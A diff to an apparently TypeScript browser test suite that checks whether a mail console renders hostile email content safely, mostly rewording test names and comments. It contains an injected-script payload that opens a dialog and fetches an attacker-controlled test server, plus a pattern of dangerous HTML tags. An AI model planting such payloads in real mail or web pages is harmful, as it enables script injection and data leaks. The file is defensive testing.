@@ -15,7 +15,9 @@ import {
 import { waitFor } from '../../support/waitFor.ts'
 import '../../support/long.ts'
 
-/** Holds the server of the attacker in these tests. Every request that reaches this server is a data leak. */
+/**
+ * Holds the server of the attacker in these tests. Any request to this server would prove that the console leaks data.
+ */
 let evil: Receiver
 /** Returns a hostile script that opens a dialog and calls the attacker's server. */
 const run = () => `alert(1);fetch('${evilOrigin()}/ran')`
@@ -72,7 +74,7 @@ function watch(page: Page): string[] {
 }
 
 describe.skipIf(!hasBrowser)('the console shows hostile content safely', () => {
-  test('outside of the console, the hostile test content runs and loads, which proves that the test can detect it', async () => {
+  test('the hostile test content runs and loads outside of the console, which proves that the test can detect it', async () => {
     const page = await (await browser.newContext()).newPage()
     const seen = watch(page)
     await page.setContent(hostileHtml()).catch(() => {})
@@ -81,7 +83,7 @@ describe.skipIf(!hasBrowser)('the console shows hostile content safely', () => {
     await waitFor('the stranger to hear of it', () => evil.requests.length >= 5)
   })
 
-  test('hostile subject, sender, body, filename, header, name and metadata neither run nor load in the console', async () => {
+  test('hostile subjects, senders, bodies, file names, headers, names and metadata neither run nor load in the console', async () => {
     const { project, rawKey } = await createProject(service.database.pool, {
       name: markup(),
       purpose: 'SELLER',
@@ -162,7 +164,7 @@ describe.skipIf(!hasBrowser)('the console shows hostile content safely', () => {
     expect(await page.title()).not.toBe('taken')
   })
 
-  test('a mail cannot leave its frame, because the frame has an opaque origin and no cookie, storage or navigation', async () => {
+  test('a mail cannot leave its frame, because the frame has an opaque origin and may not use cookies, storage or navigation', async () => {
     await using console = await openConsole(browser, service)
     const { page } = console
     await console.open('projects')
@@ -195,10 +197,10 @@ describe.skipIf(!hasBrowser)('the console shows hostile content safely', () => {
   })
 })
 
-test('the console removes from a mail all elements that load, navigate, submit or run', () => {
+test('the console removes from a mail all elements that load or run content, navigate the page or submit data', () => {
   const shown = framedHtml({ html: hostileHtml(), images: [] })
-  // The test leaves style elements out of this comparison, because only the content security policy stops the requests
-  // that style elements cause.
+  // The comparison leaves out style elements, because only the content security policy stops the requests that they
+  // cause.
   const body = shown.slice(shown.indexOf('<body>')).replace(/<style>[\s\S]*?<\/style>/g, '')
   expect(body).not.toMatch(
     /<(script|iframe|object|embed|link|meta|base|form|video|audio|source)\b/i,
@@ -216,14 +218,14 @@ test('the console shows an inline image of a mail and does not fetch a remote im
   expect(shown).not.toContain('cid:')
 })
 
-test('the console shows each inline image of a mail, but not so often that the page becomes huge', () => {
+test('the console shows each inline image of a mail, but limits the repetitions so that the page does not become huge', () => {
   const images = [{ contentId: 'a', contentType: 'image/png', bytes: Buffer.alloc(90_000) }]
   const shown = framedHtml({ html: '<img src=cid:a>'.repeat(10_000), images })
   expect(shown.split('src="data:')).toHaveLength(1 + Math.floor((12 * 1024 * 1024) / 120_022))
   expect(shown.length).toBeLessThan(13 * 1024 * 1024)
 })
 
-test('the console does not draw HTML of more than 500,000 characters', () => {
+test('the console does not show the HTML of a mail if it has more than 500,000 characters', () => {
   const start = '<p>Read me</p>'
   const whole = start + ' '.repeat(500_000 - start.length)
   expect(framedHtml({ html: whole, images: [] })).toContain('Read me')
